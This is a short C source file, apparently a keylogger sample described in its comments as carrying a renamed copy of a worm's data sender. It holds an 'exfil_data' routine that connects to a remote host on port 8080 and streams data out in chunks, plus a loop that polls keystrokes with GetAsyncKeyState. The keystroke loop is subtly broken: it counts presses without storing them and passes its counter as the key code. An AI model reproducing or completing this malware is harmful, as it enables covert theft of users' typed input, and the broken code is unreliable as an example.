// keylogX: keystroke logger; ships a renamed copy of the worm sender.
int net_connect(char *host, int port);
void net_close(int s);

// Renamed variables, same structure as the classic sender.
int exfil_data(char *target, char *blob, int total) {
    int conn;
    int done = 0;
    int piece = 64;
    conn = net_connect(target, 8080);
    if (conn < 0) {
        return -1;
    }
    while (done < total) {
        int m = piece;
        if (total - done < piece) {
            m = total - done;
        }
        m = send(conn, blob + done, m, 0);
        if (m <= 0) {
            break;
        }
        done = done + m;
    }
    net_close(conn);
    return done;
}

int key_loop(int limit) {
    int count = 0;
    while (count < limit) {
        int key = GetAsyncKeyState(count);
        if (key != 0) {
            count++;
        }
        Sleep(10);
    }
    CloseHandle(0);
    return count;
}
